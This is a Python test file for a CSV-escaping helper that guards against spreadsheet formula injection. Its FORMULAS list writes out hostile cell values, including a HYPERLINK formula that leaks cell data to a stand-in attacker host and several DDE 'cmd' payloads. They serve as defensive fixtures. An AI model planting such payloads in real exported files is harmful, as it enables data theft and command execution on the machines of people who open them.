"""CSV cells a spreadsheet reads as text, never as a formula (OWASP "CSV Injection")."""

import csv
import io

import pytest

from core.csv_cells import csv_cell, read_csv_cell

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click for your refund")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "+1-1",
    "+1 415 555 2671",
    "+14155552671;+1",
    "+14155552671; =1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["+14155552671", "+447700900123", "-5", "-2.5", "+3", "+14155552671; +14155550101"],
)
def test_a_sign_followed_by_digits_only_is_kept_as_it_is(value):
    # A phone number in E.164 (or a contact's several), or a negative number: a spreadsheet
    # can only read it as a number, and programs reading the file get the exact value.
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    "value",
    ["Casey Jones", "hello = world", "14155552671", "casey@example.com", "", "'quoted", " =1"],
)
def test_ordinary_text_is_unchanged(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_other_values_their_text():
    assert csv_cell(None) == ""
    assert csv_cell(42) == "42"
    assert csv_cell(-3) == "-3"


@pytest.mark.parametrize(
    "value",
    [*FORMULAS, "+14155552671", "plain", "", "'=1+1", "''=1+1", "'+14155552671", "'"],
)
def test_reading_a_cell_gives_back_the_value_exactly(value):
    assert read_csv_cell(csv_cell(value)) == value


def test_a_written_row_opens_as_text_and_reads_back_through_the_csv_module():
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell('=HYPERLINK("x","y")'), csv_cell("+14155552671")])
    assert out.getvalue() == '"\'=HYPERLINK(""x"",""y"")",+14155552671\r\n'
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert [read_csv_cell(cell) for cell in row] == ['=HYPERLINK("x","y")', "+14155552671"]
